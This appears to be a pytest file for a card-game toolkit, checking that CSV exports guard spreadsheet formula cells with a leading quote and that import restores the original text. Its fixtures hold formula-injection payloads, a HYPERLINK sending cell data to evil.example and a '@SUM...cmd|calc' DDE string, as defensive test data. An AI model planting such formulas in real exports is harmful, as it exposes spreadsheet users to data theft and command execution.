"""Cells a spreadsheet would run as formulas: every CSV the toolkit writes puts a quote before
them, `toolkit import` takes it off again, and numbers (a negative one too) stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from entry_point import run_toolkit
from hypothesis import given
from hypothesis import strategies as st
from shipped_project import copy_project, edit

from toolkit.content.cell_text import FORMULA_STARTS, guarded, unguarded
from toolkit.content.yaml_loader import load_file
from toolkit.sim.report_tables import export_tables

ATTRACTIONS = "cards/midway-memories/attractions.yaml"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """The shipped project with Midway attractions a spreadsheet would run, and a -3."""
    folder = copy_project(tmp_path / "project")
    path = folder / ATTRACTIONS
    edit(path, "name: Kiddie Coaster", f"name: '{LINK}'")
    edit(path, "points: 3  # prototype value: tune by simulation\n    flavour: Small hills",
         "points: -3\n    flavour: Small hills")  # fmt: skip
    edit(
        path,
        "flavour: Small hills, big squeals, and a wave to the grown-ups at the fence.",
        "flavour: '@SUM(1+1)*cmd|calc'",
    )
    edit(path, "name: Swan Boats", 'name: "+1 swan, \'=quoted, -x"')
    return folder


def cards(project: Path) -> Any:
    document, problems = load_file(project / ATTRACTIONS)
    assert document is not None and not problems
    return document.data["cards"]


def test_csv_export_quotes_formulas_and_import_reads_them_back(project: Path) -> None:
    before = cards(project)
    exported = run_toolkit("export", "midway-memories", "--to", "csv", "--only", "attractions",
                           "--out", "sheet", cwd=project)  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    text = (project / "sheet/attractions.csv").read_text(encoding="utf-8")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["kiddie-coaster"]["name"] == "'" + LINK
    assert rows["kiddie-coaster"]["flavour"].startswith("'@SUM(1+1)")
    assert rows["kiddie-coaster"]["points"] == "-3"  # a number, as a spreadsheet reads it
    assert rows["swan-boats"]["name"] == "'+1 swan, '=quoted, -x"
    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in "=+-@"
                and cell != "-3"]  # fmt: skip

    done = run_toolkit("import", "sheet/attractions.csv", "--kind", "attractions",
                       "--into", ATTRACTIONS, cwd=project)  # fmt: skip
    assert done.returncode == 0, done.stderr
    after = cards(project)
    assert after == before
    coaster = next(card for card in after if card["id"] == "kiddie-coaster")
    assert coaster["name"] == LINK and coaster["points"] == -3


def test_a_quoted_number_in_a_number_column_is_the_number(project: Path) -> None:
    """A designer who typed '-3 (as spreadsheets allow, to keep text) still gets -3."""
    sheet = project / "sheet.csv"
    text = run_toolkit("export", "midway-memories", "--to", "csv", "--only", "attractions",
                       "--out", "sheet", cwd=project)  # fmt: skip
    assert text.returncode == 0, text.stderr
    rows = (project / "sheet/attractions.csv").read_text(encoding="utf-8")
    sheet.write_text(rows.replace(",-3,", ",'-3,"), encoding="utf-8")
    assert ",'-3," in sheet.read_text(encoding="utf-8")
    done = run_toolkit("import", "sheet.csv", "--kind", "attractions", "--into", ATTRACTIONS,
                       cwd=project)  # fmt: skip
    assert done.returncode == 0, done.stderr
    coaster = next(card for card in cards(project) if card["id"] == "kiddie-coaster")
    assert coaster["points"] == -3


def test_png_cards_csv_quotes_a_formula_name(project: Path) -> None:
    result = run_toolkit("export", "midway-memories", "--to", "png", "--only", "kiddie-coaster",
                         "--dpi", "10", "--out", "png", cwd=project)  # fmt: skip
    assert result.returncode == 0, result.stderr
    with (project / "png/cards.csv").open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["name"] == "'" + LINK and row["id"] == "kiddie-coaster"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 coin", "'+1 coin"),
        ("-x", "'-x"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # quotes of its own are kept
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("-1e3", "-1e3"),
        ("'plain", "'plain"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_what_gets_a_quote(text: str, written: str) -> None:
    assert guarded(text) == written
    assert unguarded(written) == text


@given(st.text(alphabet="'=+-@\t\r0123456789.eE ax", max_size=8))
def test_guarded_text_reads_back_unchanged(text: str) -> None:
    written = guarded(text)
    assert unguarded(written) == text
    if written.startswith(FORMULA_STARTS):  # only a number is left as it is
        float(written)


def test_report_tables_as_csv_quote_formula_text(tmp_path: Path) -> None:
    summary = {
        "seats": [],
        "targets": [{"label": "=1+1", "threshold": -3}],
        "card_effects": [],
        "balance": {},
        "cards": {"hand": [{"card": "@cmd", "name": "-x", "plays": 2}]},
        "setups": {},
    }
    written = export_tables([summary], tmp_path / "report.pdf", "csv")
    text = {path.name: path.read_text(encoding="utf-8") for path in written}
    assert text["report-targets.csv"] == "label,threshold\n'=1+1,-3\n"
    assert text["report-cards_hand.csv"] == "card,name,plays\n'@cmd,'-x,2\n"
